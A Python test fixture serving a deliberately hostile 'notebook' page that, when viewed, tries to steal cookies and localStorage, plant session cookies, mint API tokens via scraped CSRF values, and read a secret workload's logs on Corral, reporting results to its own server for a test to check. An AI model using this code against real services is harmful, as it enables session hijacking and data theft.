"""A hostile workspace: a tiny HTTP server whose page, opened by whoever views it, tries to
act as them on Corral and reports what it got back to its own server.

    python evil_workspace.py PORT REPORT_FILE CORRAL_URLS SECRET_WORKLOAD_ID

Run by a workload (the test's attacker); the test reads REPORT_FILE (JSON lines).
"""

from __future__ import annotations

import json
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PORT, REPORT_FILE, CORRAL_URLS, SECRET_ID = int(sys.argv[1]), sys.argv[2], sys.argv[3].split(","), sys.argv[4]

PAGE = """<!doctype html><title>Totally harmless notebook</title><p>Loading...</p>
<script>
const CORRALS = %(corrals)s, SECRET = %(secret)s;
const report = (k, v) => fetch("/report", {method: "POST", body: JSON.stringify({k: k, v: String(v)})});
async function attempt(name, fn) {
  try { await report(name, await fn()); } catch (e) { await report(name, "error: " + e); }
}
async function text(r) { return r.status + " " + r.type + " " + (await r.text()).slice(0, 4000); }
(async () => {
  await attempt("document.cookie", async () => document.cookie);
  // Fixation from script: a cookie for the parent domain, and one for this host.
  document.cookie = "corral_session=planted-by-script; domain=localhost; path=/";
  document.cookie = "__Host-corral_session=planted-by-script; path=/; secure";
  await attempt("document.cookie after planting", async () => document.cookie);
  await attempt("localStorage", async () => JSON.stringify(localStorage));
  for (const base of CORRALS) {
    // Read the token page (and its CSRF value) with the viewer's cookie, then mint a token.
    let csrf = "guess";
    await attempt("GET tokens " + base, async () => {
      const body = await text(await fetch(base + "/tokens", {credentials: "include"}));
      const m = body.match(/name="csrf-token" content="([^"]+)"/); if (m) csrf = m[1];
      return body;
    });
    await attempt("POST tokens " + base, async () => text(await fetch(base + "/tokens", {
      method: "POST", credentials: "include", body: new URLSearchParams({name: "stolen", csrf_token: csrf})})));
    await attempt("POST tokens no-cors " + base, async () => text(await fetch(base + "/tokens", {
      method: "POST", mode: "no-cors", credentials: "include",
      body: new URLSearchParams({name: "stolen-blind", csrf_token: csrf})})));
    await attempt("POST api tokens " + base, async () => text(await fetch(base + "/api/v1/tokens", {
      method: "POST", credentials: "include", headers: {"Content-Type": "application/json"},
      body: JSON.stringify({name: "stolen-api"})})));
    await attempt("logs " + base, async () => text(await fetch(base + "/api/v1/workloads/" + SECRET + "/logs",
                                                               {credentials: "include"})));
    await attempt("me " + base, async () => text(await fetch(base + "/api/v1/users/me", {credentials: "include"})));
    await attempt("open " + base, async () => text(await fetch(base + "/workloads/" + SECRET + "/open",
                                                               {credentials: "include", redirect: "manual"})));
  }
  // Corral's paths on this page's own origin reach this server, not Corral.
  await attempt("own-origin logs", async () => text(await fetch("/api/v1/workloads/" + SECRET + "/logs")));
  await report("done", "yes");
  document.querySelector("p").textContent = "done";
})();
</script>
"""


class Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:  # noqa: N802 - the http.server API
        if self.path != "/":
            self.send_error(404)
            return
        body = (PAGE % {"corrals": json.dumps(CORRAL_URLS), "secret": json.dumps(SECRET_ID)}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        # Fixation from the server: Corral's cookie names, for Corral's (parent) domain.
        self.send_header("Set-Cookie", "corral_session=planted-by-server; Domain=localhost; Path=/")
        self.send_header("Set-Cookie", "evil_marker=1; Domain=localhost; Path=/")
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:  # noqa: N802
        length = int(self.headers.get("Content-Length") or 0)
        data = self.rfile.read(length)
        if self.path == "/report":
            with open(REPORT_FILE, "ab") as f:
                f.write(data.replace(b"\n", b" ") + b"\n")
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


ThreadingHTTPServer(("127.0.0.1", PORT), Handler).serve_forever()
